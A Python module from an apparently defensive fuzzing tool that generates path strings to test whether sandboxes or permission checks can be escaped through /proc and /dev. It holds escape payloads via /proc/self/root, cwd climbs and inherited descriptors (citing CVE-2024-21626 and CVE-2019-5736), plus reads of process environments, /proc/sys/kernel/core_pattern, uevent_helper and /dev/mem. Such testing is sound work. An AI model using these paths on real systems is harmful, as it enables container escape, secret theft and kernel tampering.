"""
Names in /proc and /dev that are doors: links to roots, folders, files and memory of processes.

`procfs` names the links and files that these techniques use; a world must have them to bite.
"""

from collections.abc import Iterator, Mapping

from capfuzz.attacks.techniques.compose import base, way
from capfuzz.attacks.techniques.registry import Kind, technique

_PID = "7"  # the process that asks, in the worlds that have a /proc
_WIDE = "grants or forgets /proc or /dev, whose links lead anywhere"
_LEAKED = ("CVE-2024-21626",)


def procfs(root: str, target: str) -> tuple[Mapping[str, str], tuple[str, ...]]:
    """Return the links of a /proc whose process works in ``root``, and the files beside them."""
    own, folder = f"/proc/{_PID}", target.rpartition("/")[0]
    leads = {
        "/proc/self": _PID,
        "/proc/thread-self": f"{_PID}/task/{_PID}",
        f"{own}/root": "/",
        f"{own}/cwd": base(root),
        f"{own}/exe": "/usr/bin/agent",
        f"{own}/fd/3": folder,
        f"{own}/fd/4": target,
        f"{own}/task/{_PID}/root": "/",
        f"{own}/task/{_PID}/cwd": base(root),
        "/proc/1/root": "/",
        "/proc/1/cwd": "/",
        "/dev/fd": "/proc/self/fd",
    }
    files = (
        *(f"{own}/{name}" for name in ("environ", "maps", "mem", "cmdline")),
        "/proc/1/environ",
        "/proc/sys/kernel/core_pattern",
        "/dev/mem",
        "/sys/kernel/uevent_helper",
        "/usr/bin/agent",
    )
    return leads, files


@technique(
    "procfs-root",
    kind=Kind.PATH,
    group="procfs",
    cwe="CWE-59",
    needs=f"{_WIDE}; root of a process is its whole file system",
)
def procfs_root(root: str, target: str) -> Iterator[str]:
    """Go through the root of this process, of this thread, and of the first process."""
    del root
    yield f"/proc/self/root{target}"
    yield f"/proc/thread-self/root{target}"
    yield f"/proc/{_PID}/root{target}"
    yield f"/proc/{_PID}/task/{_PID}/root{target}"
    yield f"/proc/1/root{target}"


@technique(
    "procfs-cwd",
    kind=Kind.PATH,
    group="procfs",
    cwe="CWE-59",
    needs=f"{_WIDE}; the working folder's parent is not the link's",
)
def procfs_cwd(root: str, target: str) -> Iterator[str]:
    """Climb out of the working folder of a process."""
    ups, down = way(root, target)
    yield f"/proc/self/cwd/{'../' * ups}{'/'.join(down)}"
    yield f"/proc/1/cwd{target}"
    yield f"/proc/self/root/proc/self/cwd/{'../' * ups}{'/'.join(down)}"


@technique(
    "procfs-descriptor",
    kind=Kind.PATH,
    group="procfs",
    cwe="CWE-403",
    needs=f"{_WIDE}, and leaves descriptors open in what it starts",
    refs=_LEAKED,
)
def procfs_descriptor(root: str, target: str) -> Iterator[str]:
    """Go through an inherited descriptor, of a folder and of the target itself."""
    ups, down = way(root, target)
    name = target.rpartition("/")[2]
    yield f"/proc/self/fd/3/{name}"
    yield "/proc/self/fd/4"
    yield f"/dev/fd/3/{name}"
    yield "/dev/fd/4"
    yield f"/proc/self/fd/3/../{'/'.join(down)}" if ups else "/proc/self/fd/3"


@technique(
    "procfs-data",
    kind=Kind.PATH,
    group="procfs",
    cwe="CWE-200",
    needs="grants /proc, or opens it on behalf of another process than the one that asks",
)
def procfs_data(root: str, target: str) -> Iterator[str]:
    """Name the environment, memory and arguments of a process, where secrets lie."""
    del root, target
    yield "/proc/self/environ"
    yield f"/proc/{_PID}/environ"
    yield "/proc/1/environ"
    yield "/proc/self/maps"
    yield "/proc/self/cmdline"


@technique(
    "procfs-executable",
    kind=Kind.PATH,
    group="procfs",
    cwe="CWE-59",
    needs=f"{_WIDE}; the program that runs is overwritten through it",
    refs=("CVE-2019-5736",),
)
def procfs_executable(root: str, target: str) -> Iterator[str]:
    """Name the program that runs, and the memory that it runs in."""
    del root, target
    yield "/proc/self/exe"
    yield "/proc/self/mem"


@technique(
    "kernel-files",
    kind=Kind.PATH,
    group="outside",
    cwe="CWE-749",
    needs="has a deny-list of folders that these are not on",
)
def kernel_files(root: str, target: str) -> Iterator[str]:
    """Name files that are switches of the kernel, and devices that are memory."""
    del root, target
    yield "/proc/sys/kernel/core_pattern"
    yield "/sys/kernel/uevent_helper"
    yield "/dev/mem"


@technique(
    "procfs-below-root",
    kind=Kind.PATH,
    group="traversal",
    cwe="CWE-59",
    needs="allows a climb, or judges where it ends as text",
)
def procfs_below_root(root: str, target: str) -> Iterator[str]:
    """Climb from the root into /proc, and out of it again through a link."""
    ups, _ = way(root, "/")
    yield f"{base(root)}/{'../' * ups}proc/self/root{target}"
    yield f"{base(root)}/{'../' * ups}proc/self/cwd/{'../' * ups}{target.lstrip('/')}"


@technique(
    "procfs-alias",
    kind=Kind.PATH,
    group="procfs-alias",
    cwe="CWE-59",
    needs="makes an escape of another name for what is granted",
)
def procfs_alias(root: str, target: str) -> Iterator[str]:
    """Name a granted file through /proc: no escape, and nothing that must be allowed."""
    del target
    yield "/proc/self/cwd/data.txt"
    yield f"/proc/self/root{base(root)}/data.txt"
